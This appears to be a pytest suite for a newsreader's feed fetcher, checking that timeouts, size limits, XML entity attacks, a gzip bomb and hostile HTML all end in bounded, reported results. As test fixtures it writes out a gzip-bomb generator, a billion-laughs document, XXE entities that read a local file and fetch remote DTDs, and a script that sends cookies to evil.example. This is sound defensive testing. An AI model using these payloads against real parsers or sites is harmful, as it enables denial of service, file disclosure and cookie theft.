"""Feed content and feed servers are hostile: slow, huge, endless, compressed bombs, entity
tricks, scripts and tracking pixels. Every case ends in a bounded, reported result."""

from __future__ import annotations

import gzip
import json
import time
import tracemalloc
import zlib
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from feed_docs import Item, long_paragraphs, rss20
from feed_server import FeedServer

from newsreader.index.feeds.fetch import FeedSpec, FetchSummary, fetch_feeds
from newsreader.index.feeds.http import Limits

MIB = 2**20

pytestmark = pytest.mark.usefixtures("loopback_only")


def _fetch(tmp_path: Path, *specs: FeedSpec, **limits: float) -> FetchSummary:
    return fetch_feeds(specs, tmp_path / "feeds", limits=Limits(**limits))  # type: ignore[arg-type]


def _all_text(folder: Path) -> str:
    return "\n".join(p.read_text() for p in folder.rglob("*.json") if not p.name.startswith("."))


def _good(server: FeedServer, path: str = "/good.xml") -> FeedSpec:
    items = [Item(title="Calm news", link="https://h.example/calm", content=long_paragraphs("c"))]
    return FeedSpec("good", server.static(path, rss20(items)))


def test_a_slow_server_times_out_without_stalling_the_others(
    feed_server: FeedServer, tmp_path: Path
) -> None:
    def stall(h: BaseHTTPRequestHandler) -> None:
        feed_server.release.wait(30)  # until the test ends

    slow = FeedSpec("slow", feed_server.route("/slow", stall))
    started = time.monotonic()
    summary = _fetch(tmp_path, slow, _good(feed_server), total_timeout=1.0, read_timeout=0.5)
    s, g = summary.feeds
    assert s.status is None and s.error is not None and s.error.startswith("timed out")
    assert (g.error, g.new) == (None, 1)
    assert time.monotonic() - started < 10


def test_a_server_that_drips_bytes_hits_the_total_deadline(
    feed_server: FeedServer, tmp_path: Path
) -> None:
    def drip(h: BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.send_header("Content-Type", "application/rss+xml")
        h.end_headers()
        h.wfile.write(b"<?xml version='1.0'?><rss version='2.0'><channel>")
        # One byte every 0.1 s never trips a read timeout of 0.5 s; only the total deadline.
        for _ in range(600):
            if feed_server.release.wait(0.1):
                return
            h.wfile.write(b" ")
            h.wfile.flush()

    [report] = _fetch(
        tmp_path,
        FeedSpec("drip", feed_server.route("/drip", drip)),
        total_timeout=1.5,
        read_timeout=0.5,
    ).feeds
    assert report.error == "timed out after 1.5 s"


def test_a_50_mb_response_is_cut_at_the_limit(feed_server: FeedServer, tmp_path: Path) -> None:
    sent = {"bytes": 0}

    def huge(h: BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.send_header("Content-Type", "application/rss+xml")
        h.send_header("Content-Length", str(50 * MIB))
        h.end_headers()
        chunk = b"<!-- " + b"x" * (MIB - 9) + b" -->\n"
        for _ in range(50):
            h.wfile.write(chunk)
            sent["bytes"] += len(chunk)

    specs = (FeedSpec("huge", feed_server.route("/huge", huge)), _good(feed_server))
    tracemalloc.start()
    try:
        summary = _fetch(tmp_path, *specs)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    huge_report, good = summary.feeds
    assert huge_report.error == "response cut at the 20 MiB limit"
    assert good.error is None
    assert sent["bytes"] < 50 * MIB
    assert peak < 3 * 20 * MIB


def test_an_endless_response_is_cut(feed_server: FeedServer, tmp_path: Path) -> None:
    def endless(h: BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.send_header("Content-Type", "application/rss+xml")
        h.end_headers()  # no length, no end: close-delimited, forever (bounded for safety)
        for _ in range(100_000):
            h.wfile.write(b"<item>" * 10_000)

    [report] = _fetch(
        tmp_path, FeedSpec("endless", feed_server.route("/endless", endless)), max_feed_bytes=MIB
    ).feeds
    assert report.error == "response cut at the 1 MiB limit"


def _gzip_bomb(decoded: int) -> bytes:
    """`decoded` zero bytes, gzip-compressed a chunk at a time (256 MiB -> 255 KiB)."""
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(MIB)
    parts = [z.compress(zeros) for _ in range(decoded // MIB)]
    parts.append(z.flush())
    return b"".join(parts)


@pytest.fixture(scope="module")
def gzip_bomb() -> bytes:
    return _gzip_bomb(256 * MIB)


def test_a_gzip_bomb_is_cut_without_using_the_memory(
    feed_server: FeedServer, tmp_path: Path, gzip_bomb: bytes
) -> None:
    assert len(gzip_bomb) < MIB
    url = feed_server.static(
        "/bomb", gzip_bomb, headers={"Content-Encoding": "gzip"}, content_type="application/rss+xml"
    )
    tracemalloc.start()
    try:
        [report] = _fetch(tmp_path, FeedSpec("bomb", url)).feeds
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert report.error == "response cut at the 20 MiB limit"
    assert peak < 3 * 20 * MIB


def test_gzip_and_deflate_responses_are_decoded(feed_server: FeedServer, tmp_path: Path) -> None:
    doc = rss20([Item(title="Zipped", link="https://h.example/z", content=long_paragraphs("z"))])
    raw_deflate = zlib.compressobj(6, zlib.DEFLATED, -15)
    specs = [
        FeedSpec(
            "gz",
            feed_server.static(
                "/gz", gzip.compress(doc.encode()), headers={"Content-Encoding": "gzip"}
            ),
        ),
        FeedSpec(
            "zl",
            feed_server.static(
                "/zl", zlib.compress(doc.encode()), headers={"Content-Encoding": "deflate"}
            ),
        ),
        FeedSpec(
            "raw",
            feed_server.static(
                "/raw",
                raw_deflate.compress(doc.encode()) + raw_deflate.flush(),
                headers={"Content-Encoding": "deflate"},
            ),
        ),
        FeedSpec(
            "bad",
            feed_server.static("/bad", b"not gzip at all", headers={"Content-Encoding": "gzip"}),
        ),
    ]
    reports = _fetch(tmp_path, *specs).feeds
    assert [(r.error, r.new) for r in reports[:3]] == [(None, 1)] * 3
    assert reports[3].error is not None and "broken gzip data" in reports[3].error


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>Laughs</title>
<item><title>Bomb &lol9;</title><link>https://h.example/bomb</link>
<description>&lol9;&lol9;&lol9;</description></item></channel></rss>
"""


def test_billion_laughs_does_not_blow_up(feed_server: FeedServer, tmp_path: Path) -> None:
    url = feed_server.static("/laughs", BILLION_LAUGHS)
    tracemalloc.start()
    try:
        [report] = _fetch(tmp_path, FeedSpec("laughs", url)).feeds
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 50 * MIB
    # Either refused or read without the expansion: never a gigabyte of "lol".
    assert len(_all_text(tmp_path / "feeds")) < 100_000
    assert report.error is None or report.error.startswith("malformed feed")


def test_quadratic_blowup_does_not_blow_up(feed_server: FeedServer, tmp_path: Path) -> None:
    big = "a" * 100_000
    doc = (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY big "{big}">]>\n'
        '<rss version="2.0"><channel><title>Q</title><item><title>q</title>'
        "<link>https://h.example/q</link><description>" + "&big;" * 20_000 + "</description>"
        "</item></channel></rss>"
    )
    url = feed_server.static("/quad", doc)
    tracemalloc.start()
    try:
        _fetch(tmp_path, FeedSpec("quad", url))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 200 * MIB  # expanded, it would be 2 GB
    assert len(_all_text(tmp_path / "feeds")) < 10 * MIB


def test_external_entities_are_never_read(feed_server: FeedServer, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-PASSWORD")
    hits_before = dict(feed_server.hits)
    doc = (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY xxe SYSTEM "file://{secret}">\n'
        f' <!ENTITY web SYSTEM "{feed_server.url("/dtd-fetch")}">\n'
        f' <!ENTITY % param SYSTEM "{feed_server.url("/param-fetch")}"> %param;\n]>\n'
        '<rss version="2.0"><channel><title>X</title><item><title>Leak &xxe;</title>'
        "<link>https://h.example/leak</link><description>&xxe; &web;</description>"
        "</item></channel></rss>"
    )
    url = feed_server.static("/xxe", doc)
    [report] = _fetch(tmp_path, FeedSpec("xxe", url)).feeds
    assert "TOP-SECRET" not in _all_text(tmp_path / "feeds")
    assert feed_server.hits["/dtd-fetch"] == hits_before.get("/dtd-fetch", 0) == 0
    assert feed_server.hits["/param-fetch"] == 0
    assert report.error is None or report.error.startswith("malformed feed")


def test_scripts_pixels_and_javascript_links_are_dropped(
    feed_server: FeedServer, tmp_path: Path
) -> None:
    content = (
        "<p>Harbour reopens after repairs.<script>document.location='https://evil.example/'+"
        "document.cookie</script></p>"
        '<p><img src="https://track.example/pixel.gif?u=42" width="1" height="1"/>'
        '<a href="javascript:alert(1)">Click to win</a> The ferry runs again.</p>'
        "<style>p { color: red }</style>"
        '<div style="display:none">hidden tracking text</div>'
        '<iframe src="https://ads.example/"><p>iframe text</p></iframe>'
        '<p>Read <a href="https://h.example/more">the council report</a>.</p>'
        "<p>Escape \x1b[31mcodes\x1b[0m stay out.</p>" + long_paragraphs("harbour")
    )
    items = [
        Item(
            title="Harbour <script>alert(1)</script>reopens",
            link="javascript:alert(document.cookie)",
            guid="harbour-1",
            content=content,
        ),
    ]
    url = feed_server.static("/h.xml", rss20(items))
    [report] = _fetch(tmp_path, FeedSpec("h", url)).feeds
    assert report.error is None
    [path] = [p for p in (tmp_path / "feeds" / "h").glob("[!.]*.json")]
    entry = json.loads(path.read_text())
    body = entry["body"]
    assert entry["title"] == "Harbour reopens"
    assert entry["url"] == ""
    assert body.startswith("Harbour reopens after repairs.\n\nThe ferry runs again.")
    assert "Read the council report." in body
    for bad in (
        "evil.example",
        "cookie",
        "pixel",
        "Click to win",
        "color: red",
        "hidden tracking",
        "iframe text",
        "\x1b",
    ):
        assert bad not in body


def test_unknown_content_encoding_is_an_error(feed_server: FeedServer, tmp_path: Path) -> None:
    url = feed_server.static("/br", b"\x00\x01", headers={"Content-Encoding": "br"})
    [report] = _fetch(tmp_path, FeedSpec("br", url)).feeds
    assert report.error == "network error: unsupported Content-Encoding 'br'"


def test_nothing_listening_is_reported(tmp_path: Path) -> None:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    [report] = _fetch(tmp_path, FeedSpec("none", f"http://127.0.0.1:{port}/feed")).feeds
    assert report.status is None
    assert report.error is not None and report.error.startswith("cannot connect:")


def test_deeply_nested_json_feed_is_refused(feed_server: FeedServer, tmp_path: Path) -> None:
    url = feed_server.static(
        "/deep.json", "[" * 100_000 + "]" * 100_000, content_type="application/json"
    )
    [report] = _fetch(tmp_path, FeedSpec("deep", url)).feeds
    assert report.error is not None and report.error.startswith(
        ("malformed JSON feed", "not a feed")
    )
